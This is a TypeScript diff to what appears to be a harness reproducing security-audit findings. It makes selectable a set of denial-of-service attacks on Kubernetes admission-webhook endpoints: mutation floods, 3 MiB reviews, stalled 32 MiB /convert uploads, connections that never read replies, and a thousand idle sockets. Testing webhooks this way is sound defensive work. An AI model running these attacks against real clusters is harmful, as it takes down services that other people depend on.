@@ -45,7 +45,11 @@ export function bigReplyPod(ns: string): string {
 
 export interface Attacks { stop(): Promise<Tally> }
 
-export function startAttacks(targets: readonly Target[], ns: string): Attacks {
+export const ATTACKS = ['quantity', 'heavy', 'convert', 'replies', 'idle'] as const;
+export type AttackName = (typeof ATTACKS)[number];
+
+export function startAttacks(targets: readonly Target[], ns: string, only: readonly AttackName[] = ATTACKS): Attacks {
+  const on = (a: AttackName) => only.includes(a);
   const tally: Tally = {};
   let stopped = false;
   const sockets = new Set<TLSSocket>();
@@ -85,13 +89,15 @@ export function startAttacks(targets: readonly Target[], ns: string): Attacks {
   };
 
   // N-C1, both routes of each kind, 2 in flight per route and target.
-  loop('quantity CloneSet', '/mutate-apps-kruise-io-v1alpha1-cloneset', quantityCloneSet(ns), 2);
-  loop('quantity SidecarSet', '/mutate-apps-kruise-io-sidecarset', quantitySidecarSet(), 2);
+  if (on('quantity')) {
+    loop('quantity CloneSet', '/mutate-apps-kruise-io-v1alpha1-cloneset', quantityCloneSet(ns), 2);
+    loop('quantity SidecarSet', '/mutate-apps-kruise-io-sidecarset', quantitySidecarSet(), 2);
+  }
   // H1: 16 object-heavy reviews in flight per target.
-  loop('object-heavy 3 MiB review', '/mutate-pod', objectHeavyPod(ns), 16);
+  if (on('heavy')) loop('object-heavy 3 MiB review', '/mutate-pod', objectHeavyPod(ns), 16);
   // N-H3: two /convert bodies per target, 32 MiB − 1 of 32 MiB sent, then stalled.
   const chunk = Buffer.alloc(MIB, 0x20);
-  for (const t of targets) for (let i = 0; i < 2; i++) {
+  if (on('convert')) for (const t of targets) for (let i = 0; i < 2; i++) {
     open(t, (s) => {
       s.write(`POST /convert HTTP/1.1\r\nHost: ${t.host}\r\nContent-Type: application/json\r\nContent-Length: ${32 * MIB}\r\n\r\n`);
       let sent = 0;
@@ -106,8 +112,8 @@ export function startAttacks(targets: readonly Target[], ns: string): Attacks {
     });
   }
   // N-H2: 70 connections per target, each sends the big-reply review and never reads.
-  const big = bigReplyPod(ns);
-  for (const t of targets) for (let i = 0; i < 70; i++) {
+  const big = on('replies') ? bigReplyPod(ns) : '';
+  if (on('replies')) for (const t of targets) for (let i = 0; i < 70; i++) {
     open(t, (s) => {
       s.pause();
       s.write(`POST /mutate-pod HTTP/1.1\r\nHost: ${t.host}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(big)}\r\n\r\n`);
@@ -122,7 +128,7 @@ export function startAttacks(targets: readonly Target[], ns: string): Attacks {
     const timer = setInterval(ask, 20_000);
     s.on('close', () => clearInterval(timer));
   });
-  let opened = 0;
+  let opened = on('idle') ? 0 : 1000;
   const idleTimer = setInterval(() => {
     for (let i = 0; i < 50 && opened < 1000; i++, opened++) for (const t of targets) idle(t);
     if (opened >= 1000) clearInterval(idleTimer);
@@ -134,7 +140,7 @@ export function startAttacks(targets: readonly Target[], ns: string): Attacks {
       clearInterval(idleTimer);
       for (const s of sockets) s.destroy();
       for (const a of agents) a.destroy();
-      tally['idle connections opened per target'] = { answers: { opened }, worstMs: 0 };
+      if (on('idle')) tally['idle connections opened per target'] = { answers: { opened }, worstMs: 0 };
       return tally;
     },
   };
